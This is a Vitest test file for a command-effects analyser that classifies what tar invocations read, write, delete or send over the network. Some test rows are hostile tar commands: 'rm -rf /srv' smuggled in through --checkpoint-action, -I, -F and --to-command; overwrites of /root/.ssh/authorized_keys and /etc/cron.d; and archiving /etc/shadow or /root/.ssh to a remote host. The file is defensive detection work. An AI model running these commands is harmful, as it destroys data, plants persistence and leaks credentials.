import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['tar -xPf a.tar', ['read:read a.tar', 'write:create . recursive', 'write:create / recursive']],
  ['tar tvf a.tar', ['read:read a.tar']],
  ['tar czf a.tgz dir', ['read:read dir recursive', 'write:overwrite a.tgz']],
  ['tar -c -z -f a.tgz dir', ['read:read dir recursive', 'write:overwrite a.tgz']],
  ['tar --create --file=a.tgz dir', ['read:read dir recursive', 'write:overwrite a.tgz']],
  ['tar cfC a.tar /srv dir', ['read:read /srv/dir recursive', 'write:overwrite a.tar']],
  ['tar czf a.tgz -C /etc .', ['read:read /etc recursive', 'write:overwrite a.tgz']],
  ['tar rf a.tar b', ['read:read b recursive', 'write:modify a.tar']],
  ['tar --delete -f a.tar b', ['write:modify a.tar']],
  ['tar cf - /etc/ssl', ['read:read /etc/ssl recursive']],
  ['tar xzf a.tgz', ['read:read a.tgz', 'write:create . recursive']],
  ['tar xf a.tar -C /opt', ['read:read a.tar', 'write:create /opt recursive']],
  ['tar -xOf a.tar', ['read:read a.tar']],
  [
    'tar cf a.tar dir --remove-files',
    ['read:read dir recursive', 'delete:remove dir recursive', 'write:overwrite a.tar'],
  ],
  [
    'tar xf a.tar --xform s@.*@/root/.ssh/authorized_keys@',
    ['read:read a.tar', 'write:overwrite /root/.ssh/authorized_keys', 'write:create . recursive'],
  ],
  ['tar xf a.tgz --one-top-level', ['read:read a.tgz', 'write:create a recursive']],
  ['tar xf a.tar --one-top-level=/etc/cron.d', ['read:read a.tar', 'write:create /etc/cron.d recursive']],
  ['tar xf a.tar.xz -C /srv --one-top-level', ['read:read a.tar.xz', 'write:create /srv/a recursive']],
  ["tar xf a.tar --transform 's/^a/b/'", ['read:read a.tar', 'write:create . recursive']],
  [
    "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm -rf /srv'",
    ['delete:remove /srv recursive force', 'read:read b recursive', 'write:overwrite a.tar'],
  ],
  ['tar cf a.tar b --checkpoint=1 --checkpoint-action=dot', ['read:read b recursive', 'write:overwrite a.tar']],
  ["tar tf a.tar -I 'rm -rf /srv'", ['delete:remove /srv recursive force', 'read:read a.tar']],
  [
    "tar cIf 'rm -rf /srv' a.tar b",
    ['delete:remove /srv recursive force', 'read:read b recursive', 'write:overwrite a.tar'],
  ],
  ["tar xf a.tar --to-command='rm -rf /srv'", ['delete:remove /srv recursive force', 'read:read a.tar']],
  ["tar -tf a.tar -F 'rm -rf /srv'", ['delete:remove /srv recursive force', 'read:read a.tar']],
  ['tar cf b@host.example:/x dir', ['read:read dir recursive', 'network:send host.example external']],
  ['tar cf a:b dir --force-local', ['read:read dir recursive', 'write:overwrite a:b']],
  ['tar xf host.example:/x.tar', ['network:fetch host.example external', 'write:create . recursive']],
  ['tar cf a.tar -T /etc/shadow', ['read:read /etc/shadow sensitive', 'write:overwrite a.tar']],
];

describe('tar', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });

  it('sends secrets with whatever holds them', () => {
    expect(effectsOf('tar cf host.example:x /root/.ssh')).toContain('network:send host.example external sensitive');
  });
});
